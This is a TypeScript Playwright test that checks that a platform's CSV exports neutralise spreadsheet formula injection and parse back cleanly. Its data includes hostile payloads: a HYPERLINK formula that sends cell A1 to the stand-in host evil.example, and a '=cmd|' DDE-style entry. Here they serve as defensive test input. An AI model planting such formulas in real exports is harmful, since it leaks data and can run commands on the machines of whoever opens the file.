import { endpoints } from '@kere/contracts/endpoints'
import type { APIRequestContext } from '@playwright/test'
import { signIn } from '../../scripts/sign-in.ts'
import { startTemporaryPlatform } from '../../scripts/temporary-platform.ts'
import { expect, test } from '../journey.ts'

const hostile = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open, me")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' \u00A0=1+1',
  '＝1+1',
  '"=1+1"',
  'two\r\n=lines, "quoted"; a\ttab and a \\',
  '",=1+1,"',
]

/**
 * A module before the API that adds rows to the last page of every file, so that every column contains each text once.
 */
const front = `
import api, { Exports as Own } from './index.js'
export * from './index.js'
export default api
const hostile = ${JSON.stringify(hostile)}
const widths = new Map()
export class Exports extends Own {
  async fetch(request) {
    const { pathname } = new URL(request.url)
    const answer = await super.fetch(request)
    if (!answer.ok) return answer
    const said = await answer.json()
    if (said.header) widths.set(pathname, said.header.length)
    else if (said.nextCursor === null)
      for (const text of hostile) said.rows.push(Array(widths.get(pathname)).fill(text))
    return Response.json(said, { headers: answer.headers })
  }
}`

/** The lists in which an admin finds the id that a file's path needs, and that a file in a course needs. */
const lists: Readonly<Record<string, string>> = {
  course: '/api/courses?limit=100',
  event: '/api/managed-events',
  lab: '/api/managed-labs',
}
const listsInCourse: Readonly<Record<string, string>> = { check: '/api/hard-checks' }

const files = endpoints.filter(({ mediaType }) => mediaType === 'text/csv')

async function addressOf({ path, query }: (typeof files)[number], request: APIRequestContext, origin: string) {
  const address = new URL(path, origin)
  const find = async (list: string) =>
    ((await (await request.get(origin + list)).json()) as { items: { id: string }[] }).items
  for (const [name, schema] of Object.entries(query!._zod.def.shape)) {
    if (schema._zod.optin) continue
    const [list, inCourse] = [lists[name], listsInCourse[name]]
    if (list) address.searchParams.set(name, (await find(list))[0]!.id)
    else if (inCourse)
      // Most courses have none.
      for (const { id } of await find(lists.course!)) {
        const [first] = await find(`${inCourse}?course=${id}`)
        if (!first) continue
        address.searchParams.set('course', id)
        address.searchParams.set(name, first.id)
        break
      }
    else throw new Error(`e2e/journeys/exports.spec.ts: add to \`lists\` where an admin finds the ${name} of ${path}`)
  }
  return address.href
}

interface Cell {
  text: string
  isQuoted: boolean
}

/** Parses strictly by RFC 4180, so that a misplaced quote or line break is an error. */
function parse(csv: string): Cell[][] {
  const rows: Cell[][] = []
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
  let row: Cell[] = []
  while (cell.lastIndex < csv.length) {
    const at = cell.lastIndex
    const found = cell.exec(csv)
    if (!found) throw new Error(`No cell begins at ${at}: ${JSON.stringify(csv.slice(at, at + 80))}`)
    const [, quoted, bare = '', end] = found
    row.push({ text: quoted?.replaceAll('""', '"') ?? bare, isQuoted: quoted !== undefined })
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  expect(row).toEqual([])
  return rows
}

/** Matches the beginning of a formula, which some spreadsheets recognize even after white space. */
const beginsFormula = ({ text, isQuoted }: Cell) =>
  isQuoted ? /^\s*[=+\-@＝＋－＠]/.test(text) || /^[\r\n]/.test(text) : !/^(-?\d+(\.\d+)?)?$/.test(text)

/** An export may put an apostrophe or a tab before the text. */
const isWritten = ({ text }: Cell, written: string) => [written, `'${written}`, `\t${written}`].includes(text)

test('[W-28] [S6] no cell of any CSV file begins as a formula, and each file parses back to what was written', async ({
  context,
}) => {
  test.setTimeout(180_000)
  const platform = await startTemporaryPlatform({ withoutFront: true, fronts: { api: front } })
  try {
    const { origin } = platform
    const sent = {
      name: '=cmd|1, "A"',
      email: 'ira@example.kere.test',
      subject: '@SUM(A1)',
      message: '-2+3\n=1+1, "so"',
    }
    const answer = await context.request.post(`${origin}/api/contact-messages`, {
      headers: { origin, 'idempotency-key': 'a-message-that-is-a-formula' },
      data: { ...sent, website: '', pebble: '' },
    })
    expect(answer.status(), await answer.text()).toBe(200)
    await signIn(context, platform, 'admin')

    expect(files.length).toBeGreaterThan(12)
    for (const file of files)
      await test.step(file.path, async () => {
        const response = await context.request.get(await addressOf(file, context.request, origin), {
          headers: { 'sec-fetch-site': 'same-origin' },
        })
        expect(response.status(), await response.text()).toBe(200)
        const [header = [], ...rows] = parse((await response.text()).replace(/^\uFEFF/, ''))
        // The audit log also contains the entry about its own export.
        expect(rows.length).toBeGreaterThanOrEqual(Number(response.headers()['x-export-rows']) + hostile.length)
        expect(rows.filter(({ length }) => length !== header.length)).toEqual([])
        expect([header, ...rows].flat().filter(beginsFormula)).toEqual([])
        const planted = rows.slice(-hostile.length)
        const changed = planted.flatMap((row, place) => row.filter((cell) => !isWritten(cell, hostile[place]!)))
        expect(changed).toEqual([])
        if (!file.path.includes('contact-messages')) return
        const own = rows.find((row) => row.some(({ text }) => text === sent.email)) ?? []
        for (const text of Object.values(sent))
          expect(
            own.some((cell) => isWritten(cell, text)),
            text,
          ).toBe(true)
      })
  } finally {
    await platform.stop()
  }
})
